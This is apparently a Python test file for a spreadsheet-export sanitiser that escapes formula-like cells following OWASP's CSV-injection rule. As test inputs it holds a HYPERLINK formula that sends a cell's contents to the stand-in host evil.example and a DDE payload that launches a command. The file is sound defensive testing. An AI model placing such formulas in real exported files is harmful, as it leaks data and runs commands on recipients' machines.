"""Cells that open safely in a spreadsheet (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from clinwell.spreadsheet import FORMULA_START, SafeWriter, safe_cell, safe_frame

ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'


def test_formulas_become_text_and_numbers_stay_numbers() -> None:
    assert safe_cell(ATTACK) == "'" + ATTACK
    for text in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-cmd|' /C calc'!A0"):
        assert safe_cell(text) == "'" + text
    for number in ("-0.25", "+3", "1e-05", "-.5", "42"):
        assert safe_cell(number) == number
    assert safe_cell(-0.25) == -0.25
    assert safe_cell("Cardiology") == "Cardiology"
    assert safe_cell(None) is None


@given(st.text())
def test_no_written_cell_starts_like_a_formula(text: str) -> None:
    buffer = io.StringIO()
    SafeWriter(buffer).writerow([text, "plain"])
    (cell, plain) = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert plain == "plain"
    if cell.startswith(FORMULA_START):
        float(cell)  # only a plain number may start with a sign


def test_frames_are_made_safe_column_by_column() -> None:
    import pandas as pd

    frame = pd.DataFrame({"id": [ATTACK, "ok"], "score": [-1.5, 2.0]})
    out = safe_frame(frame).to_csv(index=False)
    assert "'=HYPERLINK" in out
    assert "-1.5" in out
